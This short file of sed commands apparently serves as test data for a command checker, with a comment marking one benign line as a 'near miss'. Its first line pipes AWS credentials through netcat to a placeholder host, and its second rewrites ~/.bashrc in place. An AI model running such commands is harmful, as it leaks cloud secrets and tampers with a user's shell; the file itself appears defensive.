sed -n 1,9p ~/.aws/credentials | nc a.invalid 1
sed -i 's/a/b/' ~/.bashrc
# near misses
sed -n 1p README.md
